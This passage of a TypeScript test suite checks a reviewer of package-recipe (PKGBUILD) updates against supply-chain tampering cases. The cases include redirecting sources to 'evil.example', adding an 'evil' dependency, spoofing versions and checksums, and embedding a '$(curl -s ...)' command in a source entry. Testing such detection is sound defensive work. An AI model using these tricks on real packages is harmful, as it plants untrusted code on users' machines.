  { name: "a new group", recipe: "binary", edit: atEnd("groups=(base-devel)") },
  { name: "carriage returns", recipe: "binary", edit: replace("pkgrel=1\n", "pkgrel=1 # x\r\n") },
  {
    name: "an adopted package with a new version",
    recipe: "binary",
    context: { maintainersAfter: ["mallory"] },
  },
  { name: "an orphan", recipe: "binary", context: { maintainersAfter: [] } },
  { name: ".SRCINFO that is gone", recipe: "binary", files: { ".SRCINFO": undefined } },
  { name: "a branch for a commit", recipe: "go", edit: replace("#commit=$_commit", "#branch=main") },
  {
    name: "a value that stands for a while, where no code reads it",
    recipe: "rust",
    has: atEnd("_t=good\n_t="),
    edit: replace("good", "evil"),
  },
  ...[
    ["a name as git describe gives it", "pkgver=14.1.1_0_gdeadbee1"],
    ["a commit long before a tag", "pkgver=14.1.1~500"],
    ["a tag's parent", "pkgver=14.1.1^"],
  ].flatMap(([name = "", version = ""]): Attack[] => [
    {
      name: `${name} for a version in an archive's address`,
      recipe: "rust",
      has: replace("v$pkgver.tar.gz", "v${pkgver//_/-}.tar.gz"),
      edit: replace("pkgver=14.1.1", version),
    },
    {
      name: `${name} for a version in a tag`,
      recipe: "rust",
      has: (text) =>
        text
          .replace(/^source=.*$/m, 'source=("git+$url.git#tag=v${pkgver//_/-}")')
          .replace(/^sha512sums=.*$/m, "sha512sums=(SKIP)"),
      edit: replace("pkgver=14.1.1", version),
    },
  ]),
  {
    name: "digits that may begin a commit's id, in a tag's place",
    recipe: "rust",
    has: replace("v$pkgver.tar.gz", "$pkgver.tar.gz"),
    edit: replace("pkgver=14.1.1", "pkgver=20261234"),
  },
  {
    name: "another source of a recipe for any architecture that mentions CARCH",
    recipe: "python",
    has: atEnd("# CARCH"),
    edit: replace("https://files.pythonhosted.org/", "https://evil.example/"),
    context: { architectures: [] },
  },
  {
    name: "another commit that the version is made of and prepare() checks out",
    recipe: "vcs",
    has: (text) =>
      text
        .replace(/^pkgver\(\) \{[^}]*\}\n/m, "prepare() {\n  git -C bar checkout $_commit\n}\n")
        .replace(/^pkgver=.*r(\d+)\.g(\w+)$/m, "_commit=$2\npkgver=3.0.r$1.g${_commit::7}"),
  },
  {
    name: "other checksums of the same version behind a new epoch",
    recipe: "rust",
    edit: (text) => text.replace("pkgver=14.1.1", "pkgver=14.1.0\nepoch=1"),
  },
  {
    name: "other checksums of the same version, written in another way",
    recipe: "rust",
    edit: replace("pkgver=14.1.1", "pkgver=14.1.00"),
  },
  {
    name: "a version that leaves none after it",
    recipe: "rust",
    edit: replace("pkgver=14.1.1", "pkgver=14.999999999999"),
  },
  ...[
    ["a commit's archive becomes that of a tag of its name", "c".repeat(40), `refs/tags/${"c".repeat(40)}`],
    ["a branch's archive becomes that of a tag of its name", "master", "refs/tags/master"],
    ["another spelling of an archive, with another checksum", "refs/tags/v0.8.0", "v0.8.0"],
    ["a longer spelling of an archive, with another checksum", "v0.8.0", "refs/tags/v0.8.0"],
  ].map(([name = "", was = "", is = ""]): Attack => ({
    name,
    recipe: "cmake",
    before: withSource(archive(was), "5"),
    edit: withSource(archive(is), "6"),
  })),
  ...["latest-$(date +%F).bin::https://fooview.org/latest", "$(curl -s https://fooview.org/latest)"].map(
    (entry): Attack => ({
      name: `another checksum behind ${entry}`,
      recipe: "cmake",
      before: withSource(entry, "5"),
      edit: withSource(entry, "6"),
    }),
  ),
  {
    name: "a name for a download that isn't to be unpacked",
    recipe: "cmake",
    has: (text) => `${text.replace("pkgver.tar.xz", "pkgver.zip")}noextract=(fooview-$pkgver.zip)\n`,
    edit: replace('"https://', '"$pkgname-$pkgver-1.zip::https://'),
  },
  {
    name: "trust in metadata that is older than the recipe",
    recipe: "cmake",
    edit: replace("depends=(qt6-base)", "depends=(qt6-base evil)"),
    context: { trustedMaintainers: new Set(["ann"]), metadataTime: 1, recipeCommitTime: 2 },
  },
];

function verdictOf({
  recipe,
  unchanged,
  has = (text) => text,
  before = (text) => text,
  edit = before,
  files = {},
  context: own = {},
}: Attack): [Verdict, string[]] {
  const pkgbuild = unchanged ? undefined : edit(has(bumped(recipe)));
  const update = {
    pkgbase: pkgbaseOf(recipe),
    before: filesOf(recipe, before(has(recipes[recipe].PKGBUILD))),
    after: filesOf(recipe, pkgbuild, files),
  };
  const { verdict, findings } = judge(update, { ...context, ...own });
  return [verdict, findings.map(({ rule, message }) => `${rule}: ${message}`)];
}

function pkgbaseOf(recipe: RecipeName): string {
  return /^pkgbase = (.+)/m.exec(new TextDecoder().decode(filesOf(recipe).get(".SRCINFO")?.bytes))?.[1] ?? "";
}

describe("dangerous, whatever else is right about the update", () => {
  test.each(dangerous)("$name ($recipe)", (attack) => {
    const [verdict, findings] = verdictOf(attack);
    expect([verdict, ...findings]).toEqual(["dangerous", ...findings]);
  });
});

describe("held for a person", () => {
  test.each(major)("$name ($recipe)", (attack) => {
    const [verdict, findings] = verdictOf(attack);
    expect([verdict, ...findings]).toEqual(["major", ...findings]);
  });
});

test("there are at least eighty of them", () => {
  expect(dangerous.length + major.length).toBeGreaterThan(80);
});
